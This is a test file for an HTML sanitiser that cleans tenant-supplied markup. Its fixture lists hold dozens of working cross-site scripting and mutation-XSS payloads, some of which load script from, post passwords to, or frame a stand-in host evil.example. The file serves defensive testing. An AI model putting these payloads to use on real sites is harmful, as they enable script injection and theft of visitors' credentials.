import { describe, expect, it } from "vitest";
import { sanitizeHtml } from "./sanitize-html.ts";

/** What may remain, as a grammar: text without angle brackets, and known tags with known, quoted attributes. */
const attribute = String.raw` (?:href|title|rel|src|alt|width|height|loading|start|reversed|datetime|colspan|rowspan|scope|lang|dir)="[^"<>]*"`;
const element =
  "h2|h3|h4|p|br|hr|blockquote|pre|div|span|a|img|figure|figcaption|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|strong|b|em|i|u|s|small|mark|sub|sup|abbr|code|kbd|cite|q|time";
const harmless = new RegExp(String.raw`^(?:[^<>]|<(?:${element})(?:${attribute})* ?/?>|</(?:${element})>)*$`);
const addresses = (html: string) =>
  [...html.matchAll(/ (?:href|src)="([^"]*)"/g)].map(([, address = ""]) => address.replaceAll("&amp;", "&"));

function expectHarmless(html: string): void {
  expect(html).toMatch(harmless);
  for (const address of addresses(html)) expect(address).toMatch(/^(?:\/(?![/\\])|#|https:\/\/|mailto:|tel:)/);
}

const hostile: [what: string, markup: string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in pieces", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["a script that does not end", "<p>a</p><script>alert(1)"],
  ["a script in capitals with a slash", "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>"],
  ["a script after a null", "<scr\0ipt>alert(1)</script>"],
  ["a handler", '<img src="/a.svg" onerror="alert(1)">'],
  ["a handler without a space", '<img/src="/a.svg"/onerror=alert(1)>'],
  ["a handler behind a broken quote", `<img src="/a.svg" alt="a" b="" "onerror=alert(1)//">`],
  ["a handler in an allowed element", '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>a</p>'],
  ["a handler in an attribute's text", `<a title="&quot; onclick=alert(1) x=&quot;" href="/a">a</a>`],
  ["a handler on the body", "<body onload=alert(1)><p>a</p></body>"],
  ["javascript:", '<a href="javascript:alert(1)">a</a>'],
  ["JaVaScRiPt:", '<a href="JaVaScRiPt:alert(1)">a</a>'],
  ["javascript: behind spaces and controls", '<a href=" \u0001\t\n javascript:alert(1)">a</a>'],
  ["javascript: with a tab in the middle", '<a href="java\tscript:alert(1)">a</a>'],
  ["javascript: with an entity newline", '<a href="java&#10;script:alert(1)">a</a>'],
  ["javascript: in entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>'],
  ["javascript: in hex entities without semicolons", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>'],
  ["javascript: by name of its colon", '<a href="javascript&colon;alert(1)">a</a>'],
  ["javascript: with a comment inside", '<a href="java<!-- -->script:alert(1)">a</a>'],
  ["vbscript:", '<a href="vbscript:msgbox(1)">a</a>'],
  ["data:", '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ["data: in a picture", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ["blob: and file:", '<a href="blob:https://a/b">a</a><a href="file:///etc/passwd">b</a>'],
  ["an address without encryption", '<a href="http://evil.example">a</a>'],
  ["a name before the address", '<a href="https://bank.example@evil.example/">a</a>'],
  ["a path that is an address", '<a href="/\\evil.example">a</a><a href="/.//evil.example">b</a><a href="\\\\evil.example">c</a>'],
  ["a stranger's picture", '<img src="https://evil.example/pixel.gif"><img src="//evil.example/a">'],
  ["a picture's other sources", '<img src="/a.svg" srcset="https://evil.example/a 2x" lowsrc=javascript:alert(1) dynsrc=x>'],
  ["a style sheet", "<style>body{background:url(https://evil.example)}</style>"],
  ["a style", '<p style="background:url(javascript:alert(1));position:fixed;inset:0">a</p>'],
  ["an import", '<link rel="stylesheet" href="https://evil.example"><style>@import "//evil.example"</style>'],
  ["a class and an id", '<p class="top-bar" id="content" name="x">a</p>'],
  ["svg", '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>'],
  ["svg that animates an address", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ["math", '<math href="javascript:alert(1)"><mi>a</mi></math>'],
  ["a frame", '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ["an object", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ["a form", '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>'],
  ["a base", '<base href="https://evil.example/">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["a comment that ends early", "<!--><script>alert(1)</script>-->"],
  ["a conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["a processing instruction", '<?xml version="1.0"?><?php alert(1) ?>'],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
  ["an entity that is a tag", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
  ["entities of entities", "<p>&amp;lt;script&amp;gt;alert(1)</p>"],
  ["a dialogue over the page", '<dialog open popover onbeforetoggle="alert(1)">a</dialog>'],
  ["a template", "<template><img src=x onerror=alert(1)></template>"],
  ["a shadow root", '<div><template shadowrootmode="open"><slot></slot><script>alert(1)</script></template></div>'],
  ["a custom element", '<x-thing is="x" slot="a">a</x-thing>'],
  ["a quote that closes in an attribute", `<a href='/a"onclick="alert(1)'>a</a>`],
  ["an attribute that holds a tag", '<a title="</a><img src=x onerror=alert(1)>" href="/a">a</a>'],
  ["a picture whose description is markup", '<img src="/a.svg" alt="<script>alert(1)</script>">'],
];

/** Markup that one parser leaves harmless and the next one interprets differently. */
const mutations: [what: string, markup: string][] = [
  ["noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ["a title", '<title><a href="</title><img src=x onerror=alert(1)>"></title>'],
  ["a textarea", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ["xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ["plaintext", "<plaintext><script>alert(1)</script>"],
  ["math and style", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>"],
  ["forms in math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["svg and style", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"],
  ["svg title", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>"],
  ["a select", "<select><style></select><img src=x onerror=alert(1)></style>"],
  ["a table", "<table><p><a href='/a'><table><td><script>alert(1)</script></td></table></a></p></table>"],
  ["an annotation", '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'],
  ["a frameset", '<frameset onload="alert(1)"><noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
  ["a back-quoted attribute", "<img src=`/a` alt=``onerror=alert(1)>"],
];

describe("a tenant's markup", () => {
  it.each([...hostile, ...mutations])("is harmless after sanitising: %s", (_, markup) => {
    const html = sanitizeHtml(markup);
    expectHarmless(html);
    expect(sanitizeHtml(html)).toBe(html);
    // An attack stays harmless inside any other markup.
    for (const around of ["<p>a</p>", "<ul><li>", "<table><tr><td>", "<a href='/a'>", "</div>", '<p title="'])
      expectHarmless(sanitizeHtml(around + markup));
  });

  it("would be harmful without sanitising", () => {
    const harm = hostile.filter(([, markup]) => {
      try {
        expectHarmless(markup);
        return false;
      } catch {
        return true;
      }
    });
    // Only attacks hidden behind entities count as text before they are parsed.
    expect(harm.length).toBeGreaterThan(hostile.length - 5);
  });

  it("keeps the elements of a text", () => {
    const text = `<h2>Quem pode</h2><p>Maiores de <strong>18</strong>, <em>no Brasil</em>.<br />Nada mais.</p><ul><li>um</li><li>dois</li></ul><table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>`;
    expect(sanitizeHtml(text)).toBe(text);
  });

  it.each([
    ["/casino/house/dice?a=1#b", "/casino/house/dice?a=1#b", undefined],
    ["terms", "/terms", undefined],
    ["#sec-2", "#sec-2", undefined],
    ["mailto:oi@trevo.example", "mailto:oi@trevo.example", undefined],
    ["tel:+55188", "tel:+55188", undefined],
    ["https://consumidor.gov.br", "https://consumidor.gov.br/", "noopener noreferrer nofollow"],
    ["//gov.br/a", "https://gov.br/a", "noopener noreferrer nofollow"],
  ])("links to %s", (address, href, rel) => {
    expect(sanitizeHtml(`<a href="${address}" target="_top">a</a>`)).toBe(`<a href="${href}"${rel ? ` rel="${rel}"` : ""}>a</a>`);
  });

  it("keeps the text of a link that is not allowed", () => {
    expect(sanitizeHtml('<a href="javascript:alert(1)">leia</a>')).toBe("<a>leia</a>");
  });

  it("loads the site's own pictures lazily, with their description", () => {
    expect(sanitizeHtml('<img src="/art/ticket.svg" alt="Um bilhete" width="600">')).toBe(
      '<img src="/art/ticket.svg" alt="Um bilhete" width="600" loading="lazy" />',
    );
  });

  it("lowers reserved headings and closes open elements", () => {
    expect(sanitizeHtml("<h1>a</h1><p>b<b>c")).toBe("<h2>a</h2><p>b<b>c</b></p>");
  });

  it("flattens excessive nesting", () => {
    const html = sanitizeHtml(`${"<div>".repeat(5_000)}a${"</div>".repeat(5_000)}`);
    expect(html.match(/<div>/g)?.length).toBeLessThan(30);
    expectHarmless(html);
  });
});
